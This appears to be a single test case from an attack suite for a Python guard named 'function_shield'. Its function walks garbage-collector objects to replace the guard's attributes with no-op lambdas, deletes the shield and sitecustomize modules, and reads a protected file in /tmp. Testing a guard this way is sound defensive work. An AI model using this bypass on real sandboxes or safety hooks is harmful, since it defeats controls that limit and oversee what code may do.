# class: switch_off
# rule: read_write_tmp
# success: everything of the guard that the garbage collector lists is emptied, and a file in /tmp
#   read
# proof: read
import gc
import sys

from attack import FILE, attempt


def ours(thing):
    return "function_shield" in str(getattr(thing, "__module__", "")) or "function_shield" in str(
        getattr(thing, "__name__", "")
    )


@attempt
def steal():
    for thing in gc.get_objects():
        try:
            if ours(thing):
                for key in list(vars(thing)):
                    setattr(thing, key, lambda *a, **k: None)
        except (TypeError, AttributeError, KeyError):
            continue
    for name in [name for name in sys.modules if "shield" in name or name == "sitecustomize"]:
        del sys.modules[name]
    return open(FILE).read()
